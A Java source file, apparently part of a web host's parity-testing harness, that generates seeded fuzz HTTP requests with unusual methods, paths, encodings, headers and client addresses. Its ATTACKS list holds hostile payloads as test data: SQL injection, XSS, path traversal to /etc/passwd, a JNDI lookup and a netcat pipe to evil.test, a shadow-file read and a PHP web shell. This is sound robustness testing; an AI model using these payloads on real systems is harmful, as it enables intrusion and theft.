package dev.graft.host.parity;

import static java.util.Objects.requireNonNull;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Optional;
import java.util.SplittableRandom;

/**
 * Generates HTTP requests for a module's parity run from a seed: methods (common and odd),
 * paths with odd percent-encodings, dot segments, double slashes, unicode and long segments,
 * query strings with repeated, empty and valueless args, repeated and empty headers, unicode
 * and long header values, attack strings, IPv4 and IPv6 clients; mixed with the paths, args
 * and headers the module's own cases use, sent to the customers whose settings configure the
 * module. The request {@code n} of seed {@code s} is always the same request.
 */
final class RequestGenerator {

    static final List<String> METHODS = List.of("GET", "GET", "GET", "POST", "POST", "HEAD", "PUT", "DELETE",
            "OPTIONS", "PATCH", "PROPFIND", "PURGE");

    static final List<String> ATTACKS = List.of(
            "' OR '1'='1", "1 UNION SELECT password FROM users--", "<script>alert(1)</script>",
            "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "${jndi:ldap://evil.test/a}", "; cat /etc/shadow",
            "| nc evil.test 4444", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)",
            "%00", "\\x00\\x01", "eval(base64_decode('aGk='))", "{{7*7}}", "SELECT * FROM t WHERE a=1",
            "/bin/sh -c id", "DROP TABLE users;", "<?php system($_GET['c']); ?>", "' or sleep(5)#",
            "../..//..;/admin", "%252e%252e%252f", "\u00c0\u00ae\u00c0\u00ae/", "AND 1=1");

    static final List<String> SEGMENTS = List.of("", ".", "..", "a", "api", "v1", "users", "42", "admin", "login",
            "static", "img.png", "index.html", "search", "%2e%2e", "%2E", "%2f", "%2F", "%20", "a%20b", "%25", "%zz",
            "%", "%c3%a9", "\u00e9t\u00e9", "\u65e5\u672c", "~user", "a;b=c", "A", "UPPER", "x.php", "%00", "+",
            "old", "new", "docs", "assets", "bucket", "health", "robots.txt", ".git", ".env", "wp-admin");

    static final List<String> HEADER_NAMES = List.of("User-Agent", "Accept", "Accept-Encoding", "Accept-Language",
            "Referer", "Origin", "Cookie", "Authorization", "X-Forwarded-For", "X-Real-IP", "X-Request-Id",
            "X-Api-Key", "Content-Type", "Cache-Control", "If-None-Match", "X-Custom", "X-Forwarded-Proto",
            "X-Forwarded-Host", "Access-Control-Request-Method", "Access-Control-Request-Headers", "Range",
            "Pragma", "X-Debug", "x_underscore");

    static final List<String> VALUES = List.of("", " ", "1", "curl/8.0", "Mozilla/5.0 (X11; Linux x86_64)",
            "*/*", "gzip, br", "en-US,en;q=0.9", "text/html", "application/json", "no-cache", "https://evil.test",
            "https://shop.test", "http://localhost:3000", "null", "session=abc; theme=dark", "Bearer abc.def.ghi",
            "Basic dXNlcjpwYXNz", "GET", "X-Custom, Content-Type", "bytes=0-99", "\"etag-1\"", "true",
            "caf\u00e9 \u2603", "\t tabbed \t");

    private final long seed;
    private final List<ParityCustomer> customers;
    private final List<String> casePaths;
    private final List<ParityRequest.Header> caseHeaders;
    private final List<String> caseBodies;

    /**
     * @param seed      the run's seed
     * @param customers the customers to address (those whose settings configure the module)
     * @param cases     the module's case requests: their paths, headers and bodies are reused
     */
    RequestGenerator(long seed, List<ParityCustomer> customers, List<ParityRequest> cases) {
        this.seed = seed;
        this.customers = List.copyOf(requireNonNull(customers, "customers"));
        if (this.customers.isEmpty()) {
            throw new IllegalArgumentException("customers: none (expected: at least one customer configuring the module)");
        }
        LinkedHashSet<String> paths = new LinkedHashSet<>();
        LinkedHashSet<ParityRequest.Header> headers = new LinkedHashSet<>();
        LinkedHashSet<String> bodies = new LinkedHashSet<>();
        for (ParityRequest r : cases) {
            paths.add(r.target());
            for (ParityRequest.Header h : r.headers()) {
                if (!h.name().equalsIgnoreCase("Host")) {
                    headers.add(h);
                }
            }
            r.body().ifPresent(bodies::add);
        }
        this.casePaths = List.copyOf(paths);
        this.caseHeaders = List.copyOf(headers);
        this.caseBodies = List.copyOf(bodies);
    }

    long seed() {
        return seed;
    }

    /** The {@code n}th request sequence of this seed: usually one request, sometimes a burst. */
    Sequence sequence(int n) {
        SplittableRandom r = new SplittableRandom(seed * 0x9E3779B97F4A7C15L + n);
        ParityRequest req = request(r);
        List<ParityRequest> reqs = new ArrayList<>();
        reqs.add(req);
        if (r.nextInt(20) == 0) {
            // a burst: the same client again and again (rate limits, caches)
            int more = 2 + r.nextInt(5);
            for (int i = 0; i < more; i++) {
                reqs.add(r.nextBoolean() ? req : request(r).withClient(req.client()));
            }
        }
        return new Sequence("generated seed " + seed + " #" + n, Sequence.Kind.GENERATED, reqs);
    }

    private ParityRequest request(SplittableRandom r) {
        ParityCustomer c = customers.get(r.nextInt(customers.size()));
        String method = METHODS.get(r.nextInt(METHODS.size()));
        String target = !casePaths.isEmpty() && r.nextInt(3) == 0 ? mutatePath(r, casePaths.get(r.nextInt(casePaths.size())))
                : path(r) + query(r);
        List<ParityRequest.Header> headers = new ArrayList<>();
        String host = switch (r.nextInt(12)) {
            case 0 -> c.host().toUpperCase(java.util.Locale.ROOT);
            case 1 -> c.host() + ":80";
            case 2 -> c.host() + ".";
            default -> c.host();
        };
        headers.add(new ParityRequest.Header("Host", host));
        int n = r.nextInt(7);
        for (int i = 0; i < n; i++) {
            if (!caseHeaders.isEmpty() && r.nextInt(3) == 0) {
                ParityRequest.Header h = caseHeaders.get(r.nextInt(caseHeaders.size()));
                headers.add(r.nextInt(4) == 0 ? new ParityRequest.Header(h.name(), value(r)) : h);
            } else {
                headers.add(new ParityRequest.Header(HEADER_NAMES.get(r.nextInt(HEADER_NAMES.size())), value(r)));
            }
        }
        if (r.nextInt(6) == 0 && headers.size() > 1) {
            headers.add(headers.get(1 + r.nextInt(headers.size() - 1))); // a repeated header
        }
        Optional<String> body = Optional.empty();
        if (!method.equals("GET") && !method.equals("HEAD") && r.nextInt(3) > 0) {
            body = Optional.of(switch (r.nextInt(25)) {
                case 0, 1, 2, 3, 4, 5 -> caseBodies.isEmpty() ? "a=1&b=2" : caseBodies.get(r.nextInt(caseBodies.size()));
                case 6, 7, 8, 9, 10 -> "q=" + bytes(ATTACKS.get(r.nextInt(ATTACKS.size())));
                case 11, 12, 13, 14 -> "{\"user\":\"" + bytes(ATTACKS.get(r.nextInt(ATTACKS.size()))).replace("\"", "") + "\"}";
                case 15 -> "x".repeat(1 + r.nextInt(70_000)); // large bodies: rare, they dominate the run time
                default -> bytes(value(r));
            });
            if (r.nextBoolean()) {
                headers.add(new ParityRequest.Header("Content-Type", r.nextBoolean()
                        ? "application/x-www-form-urlencoded" : "application/json"));
            }
        }
        return new ParityRequest(c.name(), method, target, headers, body, client(r));
    }

    private String path(SplittableRandom r) {
        int n = 1 + r.nextInt(5);
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < n; i++) {
            sb.append('/');
            int k = r.nextInt(60);
            if (k < 3) {
                sb.append(pct(ATTACKS.get(r.nextInt(ATTACKS.size())), r));
            } else if (k == 3) {
                sb.append("seg".repeat(1 + r.nextInt(800)));
            } else if (k < 7) {
                sb.append('/');
            } else {
                sb.append(bytes(SEGMENTS.get(r.nextInt(SEGMENTS.size()))));
            }
        }
        if (r.nextInt(8) == 0) {
            sb.append('/');
        }
        return sb.toString();
    }

    private String mutatePath(SplittableRandom r, String p) {
        return switch (r.nextInt(6)) {
            case 0 -> p + (p.contains("?") ? "&" : "?") + arg(r);
            case 1 -> p.replace("/", "//");
            case 2 -> p.toUpperCase(java.util.Locale.ROOT);
            case 3 -> "/./" + p.substring(1);
            case 4 -> p + "/../" + bytes(SEGMENTS.get(r.nextInt(SEGMENTS.size())));
            default -> p;
        };
    }

    private String query(SplittableRandom r) {
        if (r.nextInt(3) == 0) {
            return "";
        }
        int n = r.nextInt(5);
        StringBuilder sb = new StringBuilder("?");
        for (int i = 0; i < n; i++) {
            if (i > 0) {
                sb.append(r.nextInt(10) == 0 ? "&&" : "&");
            }
            sb.append(arg(r));
        }
        return sb.toString();
    }

    private String arg(SplittableRandom r) {
        String[] keys = {"q", "id", "page", "a", "a", "", "sig", "expires", "token", "api_key", "redirect", "url", "%71"};
        String key = keys[r.nextInt(keys.length)];
        return switch (r.nextInt(30)) {
            case 0, 1, 2, 3, 4 -> key;
            case 5, 6, 7, 8, 9 -> key + "=";
            case 10, 11, 12, 13, 14, 15 -> key + "=" + pct(ATTACKS.get(r.nextInt(ATTACKS.size())), r);
            case 16, 17, 18, 19, 20 -> key + "=" + r.nextInt(100000);
            case 21, 22, 23, 24, 25, 26, 27, 28 -> key + "=" + bytes(VALUES.get(r.nextInt(VALUES.size()))).replace(" ", r.nextBoolean() ? "+" : "%20");
            default -> key + "=" + "v".repeat(1 + r.nextInt(3000));
        };
    }

    private String value(SplittableRandom r) {
        return switch (r.nextInt(40)) {
            case 0, 1, 2, 3, 4 -> bytes(ATTACKS.get(r.nextInt(ATTACKS.size())));
            case 5 -> "long-" + "y".repeat(r.nextInt(6000));
            case 6, 7, 8, 9, 10 -> client(r);
            case 11, 12, 13, 14 -> client(r) + ", " + client(r);
            default -> bytes(VALUES.get(r.nextInt(VALUES.size())));
        };
    }

    /** Percent-encodes some of the characters (randomly), leaves others raw where HTTP allows. */
    private static String pct(String s, SplittableRandom r) {
        StringBuilder sb = new StringBuilder();
        for (byte b : s.getBytes(StandardCharsets.UTF_8)) {
            int c = b & 0xff;
            boolean plain = c > 0x20 && c < 0x7f && c != '?' && c != '#' && c != '%' && c != '/';
            if (plain && r.nextInt(4) > 0) {
                sb.append((char) c);
            } else {
                sb.append('%').append(Character.toUpperCase(Character.forDigit(c >> 4, 16)))
                        .append(r.nextBoolean() ? Character.toUpperCase(Character.forDigit(c & 15, 16))
                                : Character.forDigit(c & 15, 16));
            }
        }
        return sb.toString();
    }

    /** A Java string as its UTF-8 bytes, one char per byte, as the host keeps request strings. */
    static String bytes(String s) {
        return new String(s.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
    }

    private static String client(SplittableRandom r) {
        return switch (r.nextInt(6)) {
            case 0 -> "127.0.0.1";
            case 1 -> "2001:db8::" + Integer.toHexString(r.nextInt(0xffff));
            case 2 -> "::1";
            case 3 -> "10." + r.nextInt(256) + "." + r.nextInt(256) + "." + r.nextInt(256);
            case 4 -> "192.168." + r.nextInt(3) + "." + r.nextInt(256);
            default -> "203.0.113." + r.nextInt(256);
        };
    }
}
